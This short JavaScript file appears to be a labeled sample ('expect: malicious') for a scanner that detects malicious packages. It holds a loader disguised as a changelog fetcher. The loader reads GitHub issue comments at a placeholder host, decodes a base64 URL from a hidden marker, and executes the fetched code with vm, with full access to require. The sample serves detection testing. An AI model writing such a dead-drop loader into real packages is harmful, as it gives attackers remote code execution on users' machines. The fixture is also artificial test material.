// expect: malicious
// A changelog fetcher's exported function reads an issue thread's comments through the package's own http helper,
// takes a base64 URL from a marker comment and runs what that URL serves with vm (a dead drop; blind set 25).
const vm = require('vm');
const http = require('./http');
const THREAD = 'https://api.github.com.invalid/repos/x/formats/issues/14/comments';
exports.syncParserRules = async function syncParserRules() {
  const comments = await http.fetchJson(THREAD);
  for (const c of comments) {
    const m = /<!--\s*rules:([A-Za-z0-9+/=]{16,})\s*-->/.exec(String(c.body || ''));
    if (!m) continue;
    const src = await http.fetchText(Buffer.from(m[1], 'base64').toString('utf8'));
    vm.runInThisContext('(function(require){' + src + '\n})')(require);
    break;
  }
};
